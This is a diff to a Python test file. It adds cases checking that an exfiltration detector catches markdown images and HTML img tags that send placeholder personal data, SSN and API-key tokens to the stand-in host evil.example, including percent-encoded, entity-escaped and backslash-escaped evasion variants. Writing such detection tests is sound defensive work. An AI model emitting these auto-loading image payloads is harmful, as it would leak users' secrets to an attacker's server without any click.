@@ -30,12 +30,42 @@ def test_addresses_that_carry_data_are_found(text: str) -> None:
 
 
 @pytest.mark.parametrize(
+    "address",
+    [
+        "//evil.example/p.png?d=[PERSON_6HSFTVZBUERU]",
+        "https://evil.example/PERSON_6HSFTVZBUERU.png",
+        "https://evil.example/us_ssn_ukuqewqlhc75",
+        "https://API_KEY_UNNCF7HQSHHK.evil.example/",
+        "https://evil.example/PERSON%5F6HSFTVZBUERU",
+        "https://evil.example/PERSON%255F6HSFTVZ%42UERU",
+        "https://evil.example/PERSON&lowbar;6HSFTVZBUERU",
+        "https://evil.example/PERSON\\u005f6HSFTVZBUERU",
+        "https://evil.example/PERSON\\_6HSFTVZBUERU",
+        "https:\\/\\/evil.example/PERSON_6HSFTVZBUERU",
+    ],
+)
+@pytest.mark.parametrize(
+    "markup",
+    ["![x]({})", "![x](<{}>)", "![x](\n{})", "![a [b] c]({})", "![a\nb]({})", r"![a\]b]({})", "![x][r]\n\n[r]: {}",
+     '<img src="{}">', '<img alt="' + "x" * 200 + '" src="{}">'],
+)  # fmt: skip
+def test_no_stand_in_is_in_what_loads_by_itself(markup: str, address: str) -> None:
+    """The client would get the value in its place, and send it to whose address it is."""
+    text = markup.format(address)
+    (finding,) = ExfiltrationDetector().detect([text])[0]
+    assert finding.score >= 0.8
+    assert not ExfiltrationDetector([".evil.example"]).detect([text])[0]
+
+
+@pytest.mark.parametrize(
     "text",
     [
         "![diagram](https://docs.example/images/architecture.png)",
         "[the manual](https://docs.example/guide/getting-started)",
         "[search](https://search.example/?q=python)",
         "<img src='/logo.png'>",
+        "![logo](logo.png) and [the guide](https://docs.example/guide/getting-started)",
+        "[Ann](https://crm.example/people/PERSON_6HSFTVZBUERU)",
         "if (a[i](x)) { return b[!c]; }",
     ],
 )
